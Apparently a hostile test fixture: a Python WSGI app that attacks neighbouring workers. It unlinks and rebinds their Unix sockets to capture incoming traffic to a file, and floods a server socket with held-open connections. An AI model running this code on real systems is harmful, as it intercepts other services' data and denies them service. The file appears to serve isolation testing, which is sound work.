"""An application that harms its neighbours: it takes their sockets, and fills sockets of the server with connections. The path says what."""

import os
import socket
import struct
import threading
import time

HELD = []


def application(environ, start_response):
    function = globals()["do_" + environ["PATH_INFO"].strip("/")]
    body = str(function(*environ["QUERY_STRING"].split("&"))).encode()
    start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
    return [body]


def do_steal(directory):
    """Bind every worker's socket in the directory but our own anew, and write what comes to a file; how many."""
    stolen = 0
    for name in os.listdir(directory):
        path = os.path.join(directory, name)
        if name.endswith(".sock") or listener_of(path) in (0, os.getpid()):
            continue
        os.unlink(path)
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen(64)
        threading.Thread(target=collect, args=(listener,), daemon=True).start()
        stolen += 1
    return stolen


def listener_of(path):
    """The pid of who listens there, or 0."""
    with socket.socket(socket.AF_UNIX) as sock:
        try:
            sock.connect(path)
        except OSError:
            return 0
        return struct.unpack("3i", sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]


def collect(listener):
    while True:
        visitor, _ = listener.accept()
        with visitor, open(os.environ["STOLEN"], "ab") as file:
            visitor.settimeout(2)
            try:
                file.write(b"visitor:" + visitor.recv(65536))
            except OSError:
                pass


def do_fill(path, count, target=""):
    """Keep so many connections to a socket open, from now on: who is hung up on comes again. The first bytes of each are ``target``'s GET."""
    words = b"GET %b HTTP/1.1\r\nHost: x\r\n\r\n" % target.encode() if target else b""
    threading.Thread(target=keep_full, args=(path, int(count), words), daemon=True).start()
    while len(HELD) < int(count):
        time.sleep(0.01)
    return len(HELD)


def keep_full(path, count, words):
    while True:
        HELD[:] = [sock for sock in HELD if is_open(sock)]
        while len(HELD) < count:
            sock = socket.socket(socket.AF_UNIX)
            try:
                sock.connect(path)
                sock.sendall(words)
            except OSError:
                sock.close()
                break
            HELD.append(sock)
        time.sleep(0.02)


def is_open(sock):
    try:
        return sock.recv(65536, socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False
